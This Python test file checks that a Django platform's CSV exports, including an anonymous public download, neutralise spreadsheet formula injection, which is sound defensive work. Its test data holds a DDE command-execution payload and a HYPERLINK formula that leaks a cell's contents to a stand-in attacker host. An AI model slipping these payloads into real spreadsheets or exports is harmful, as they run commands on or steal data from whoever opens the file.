"""CSV injection: every CSV the platform writes neutralises text a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse

from ictmonitor.core.safecsv import csv_cell, csv_writer
from ictmonitor.registry.importers import import_enrolments, import_school_list
from ictmonitor.reports.exporters import export
from ictmonitor.reports.releases import publish_release
from tests.registry.flemish_rows import row, write
from tests.reports import result

CALC = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
SRC = Path(__file__).resolve().parents[2] / "src" / "ictmonitor"


def written(*rows: list[object], **options: str) -> str:
    out = io.StringIO(newline="")
    csv_writer(out, **options).writerows(rows)
    return out.getvalue()


@pytest.mark.parametrize("text", [CALC, LINK, "+31 20 123", "-2+3", "@SUM(A1:A2)", "\t=1",
                                  "\r=1"])
def test_text_that_starts_like_a_formula_gets_a_quote_and_is_quoted(text):
    line = written(["1001", text])
    assert line == '1001,"\'' + text.replace('"', '""') + '"\r\n'
    assert next(csv.reader(io.StringIO(line))) == ["1001", f"'{text}"]


def test_numbers_stay_numbers_negative_ones_too():
    line = written([-12, -0.5, Decimal("-1234.50"), Decimal("1E+2"), 0, None, True])
    assert line == "-12,-0.5,-1234.50,100,0,,True\r\n"


def test_safe_text_is_written_as_csv_writer_writes_it():
    rows = [["a", "b;c", 'say "hi"', "two\nlines", "", "2024-2025", "x"], ["", ""]]
    plain = io.StringIO(newline="")
    csv.writer(plain, delimiter=";", lineterminator="\n").writerows(rows)
    assert written(*rows, delimiter=";", lineterminator="\n") == plain.getvalue()


def test_a_row_with_a_neutralised_cell_keeps_its_other_cells_as_csv_writes_them():
    line = written(["a,b", CALC, 'q"', 5, -5, "", None], delimiter=",")
    assert next(csv.reader(io.StringIO(line))) == ["a,b", f"'{CALC}", 'q"', "5", "-5", "", ""]
    assert line.endswith(",5,-5,,\r\n")


def test_a_cell_is_text_neutralised_or_a_number_as_it_is():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("-") == "'-"
    assert csv_cell("a=1") == "a=1"
    assert csv_cell(-3) == "-3"
    assert csv_cell(Decimal("-0.10")) == "-0.10"


def test_the_report_csv_neutralises_names_and_keeps_negative_figures_numbers():
    rows = [{"school": "1", "requested": -3, "activated": Decimal("-12.50"),
             "activation_rate": -0.25},
            {"school": "2", "requested": 4, "activated": 2, "activation_rate": 0.5}]
    labels = {"school": {"1": CALC, "2": LINK}}
    data = export(result(rows, {}, by=("school",), labels=labels), "csv").decode("utf-8")
    lines = data.splitlines()
    assert lines[1] == "1,\"'=cmd|' /C calc'!A0\",-3,-12.50,-0.25"
    assert lines[2].startswith('2,"\'=HYPERLINK(""http://evil.example/')
    assert_safe(data)


def assert_safe(data: str) -> None:
    """No cell starts like a formula unless it is a number."""
    for cells in csv.reader(io.StringIO(data)):
        for cell in cells:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert re.fullmatch(r"-?\d+(\.\d+)?", cell), cell


@pytest.mark.django_db
def test_the_anonymous_public_download_neutralises_a_school_named_like_a_formula(tmp_path):
    write(tmp_path / "schools.csv", [row(schoolnummer="1", naam=CALC),
                                      row(schoolnummer="2", naam=LINK)], delimiter=";")
    import_school_list(tmp_path / "schools.csv", actor="t")
    counts = tmp_path / "pupils.csv"
    counts.write_text("schoolnummer;intern_vplnummer;schooljaar;niveau;leerlingen\n"
                      "1;1;2024-2025;lager;400\n2;1;2024-2025;lager;300\n", encoding="utf-8")
    import_enrolments(counts, actor="t")
    publish_release(date(2024, 10, 1), by="t")  # the public pages serve releases only
    url = reverse("public:download", kwargs={"report_id": "pupils", "fmt": "csv"})
    data = Client().get(url, {"by": "school"}).content.decode("utf-8")
    assert "\"'=cmd|' /C calc'!A0\"" in data
    assert "\"'=HYPERLINK(\"\"http://evil.example/" in data
    assert_safe(data)


def test_every_csv_the_platform_writes_goes_through_the_shared_writer():
    """A CSV written any other way (csv.writer, joined text) would skip the neutralising."""
    found = []
    for path in SRC.rglob("*.py"):
        if path.name == "safecsv.py" or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"csv\.(writer|DictWriter)\(|\"[;,]\"\.join\(row", text):
            found.append(str(path.relative_to(SRC)))
    assert found == []
